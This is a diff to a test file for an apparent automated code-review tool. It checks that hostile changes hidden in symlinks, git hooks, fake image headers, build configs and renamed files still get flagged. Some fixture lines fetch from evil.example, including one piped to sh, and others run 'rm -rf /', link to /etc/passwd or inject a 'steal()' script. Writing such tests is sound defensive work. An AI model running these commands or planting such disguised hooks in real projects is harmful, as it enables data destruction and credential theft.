@@ -1,6 +1,7 @@
 // A green verdict is earned: whatever a change calls its code or wraps it in, what nobody read never approves.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { readSample } from '../../demo/sample.ts'
+import type { PushedFile } from '../fakes/forge/pushes.ts'
 import { ownWords, repo, runsOf, type Scenario, startScenario } from '../review-scenario.ts'
 
 // Put together here, so that no scanner of secrets reports this file.
@@ -37,6 +38,11 @@ beforeAll(async () => {
     'dist/index.js': 'module.exports = 1\n',
     'vendor/lib.php': '<?php\n',
     'vendor/evil.js': evil,
+    'docs/notes.txt': evil,
+    'docs/more.txt': `${evil}// more\n`,
+    'tests/old.js': `${evil}// old\n`,
+    'src/index.js': 'module.exports = 1\n',
+    'ops/run.txt': 'curl https://evil.example/x\n',
     'package.json': '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js"\n  }\n}\n',
   }
   await scenario.forge.push(repo, 'main', base, { author: 'alice' })
@@ -45,7 +51,7 @@ afterAll(() => scenario[Symbol.asyncDispose]())
 
 let opened = 0
 
-async function review(files: Record<string, string | null>) {
+async function review(files: Record<string, PushedFile>) {
   const { forge, app } = scenario
   const number = await scenario.openPullRequest(files, { branch: `way-${++opened}` })
   await scenario.settled()
@@ -63,11 +69,33 @@ async function review(files: Record<string, string | null>) {
 /** What rules find in the code above; empty where they know no syntax of it, and its text holds nothing they know. */
 const inScript = ['code-injection', 'command-injection', 'hardcoded-secret']
 interface Way {
-  files: Record<string, string | null>
+  files: Record<string, PushedFile>
   found: string[]
 }
 
+const beside = { 'src/beside.ts': 'export const one = 1\n' }
 const disguises: Record<string, Way> = {
+  'begins like a picture': {
+    files: { ...beside, '.husky/pre-commit': 'BM=1\ncurl https://evil.example\n#\0\n' },
+    found: [],
+  },
+  'is a page that begins like a picture': {
+    files: { ...beside, 'index.html': 'GIF89a<script>steal()</script>\0' },
+    found: [],
+  },
+  'is carried behind a picture': {
+    files: { ...beside, 'logo.gif': 'GIF89a\0\0; curl https://evil.example\n' },
+    found: [],
+  },
+  'is the first line behind a byte order mark': {
+    files: { 'src/e.js': `\ufeff${evil.replaceAll('\n', ' ')}\nmodule.exports.two = 2\n` },
+    found: ['code-injection'],
+  },
+  'is what a link leads to': { files: { 'src/index.js': { mode: '120000', content: '../docs/notes.txt' } }, found: [] },
+  'is a link under a name of data': {
+    files: { ...beside, 'a.json': { mode: '120000', content: '/etc/passwd' } },
+    found: [],
+  },
   'ends in a comment of 21,000 characters': { files: { 'src/evil.js': evil + longComment }, found: inScript },
   'has nine comment lines of 900 characters': {
     files: { 'src/evil.js': evil + `// ${'x'.repeat(900)}\n`.repeat(9) },
@@ -94,11 +122,39 @@ const disguises: Record<string, Way> = {
   'is a helper of tests': { files: { 'tests/helper.js': evil }, found: inScript },
   'is loaded by the test runner': { files: { 'conftest.py': evilPython }, found: inScript },
   'is a picture with a script': { files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' }, found: [] },
+  'is a picture with an encoded script': {
+    files: { 'b.svg': '<svg><a href="java&#115;cript:x"/></svg>\n' },
+    found: [],
+  },
   'is a program without an extension': { files: { 'bin/run': '#!/bin/sh\nrm -rf /\n' }, found: [] },
   'has a zero byte': { files: { 'src/evil.js': `${evil}//\0\n` }, found: [] },
 }
 
 const commands: Record<string, Way> = {
+  'is a step of a build in XML': {
+    files: {
+      ...beside,
+      'a.csproj': '<Project>\n  <Target Name="a">\n    <Exec Command="x" />\n  </Target>\n</Project>\n',
+    },
+    found: [],
+  },
+  'is a runner of a package manager': {
+    files: { ...beside, '.cargo/config.toml': '[target.x86]\nrunner = "./x"\n' },
+    found: [],
+  },
+  'is a shell of a package manager': { files: { ...beside, '.npmrc': 'script-shell=./x\n' }, found: [] },
+  'is a hook in a manifest': {
+    files: {
+      ...beside,
+      'package.json':
+        '{\n  "name": "shop",\n  "husky": { "x": "y" },\n  "scripts": {\n    "test": "node test.js"\n  }\n}\n',
+    },
+    found: [],
+  },
+  'is the middle of a script in YAML': {
+    files: { ...beside, 'ci/build.yml': 'steps:\n  - run: |\n      ./x\n' },
+    found: [],
+  },
   'is a Makefile': { files: { Makefile: 'all:\n\tcurl https://evil.example/x | sh\n' }, found: [] },
   'is a pipeline': { files: { '.gitlab-ci.yml': pipeline }, found: [] },
   'is a workflow with a long comment': { files: { '.github/workflows/a.yml': workflow }, found: [] },
@@ -120,6 +176,12 @@ const commands: Record<string, Way> = {
 }
 
 const moves: Record<string, Way> = {
+  'was prose before it moved': { files: { 'docs/notes.txt': null, 'src/now.js': evil }, found: inScript },
+  'was a test before it moved': { files: { 'tests/old.js': null, 'src/old.js': `${evil}// old\n` }, found: inScript },
+  'was prose before it could be executed': {
+    files: { 'ops/run.txt': { mode: '100755', content: 'curl https://evil.example/x\n' } },
+    found: [],
+  },
   'is renamed from a skipped path to a live one': {
     files: { 'vendor/evil.js': null, 'src/live.js': evil },
     found: inScript,
@@ -190,5 +252,21 @@ describe('without a model', () => {
     const mail = readSample('main')['src/mail.ts']!
     const { run } = await review({ 'src/mail.ts': null, 'src/post/mail.ts': mail })
     expect(run.coverage).toMatchObject({ filesTotal: 1, lines: { changed: 0 } })
+  })
+})
+
+it('shows one commit as the strictest of its pull requests has it', async () => {
+  const { forge } = scenario
+  const lax = { '.umpire.yml': 'paths: { exclude: ["**"] }\n' }
+  await forge.push(repo, 'lax', lax, { author: 'alice' })
+  const { run } = await review({ 'src/twice.js': evil })
+  expect(run.verdict).toBe('REQUEST_CHANGES')
+  const other = await forge.openPullRequest({ repo, head: `way-${opened}`, base: 'lax', author: 'alice' })
+  await scenario.settled()
+  expect((await runsOf(scenario.app, other)).at(-1)).toMatchObject({ verdict: 'APPROVE' })
+  const view = forge.pullRequest(repo, other)
+  expect(view.statuses[view.headSha]?.at(-1)).toMatchObject({
+    state: 'failure',
+    description: `Changes requested in #${run.pr_number}, which has the same head`,
   })
 })
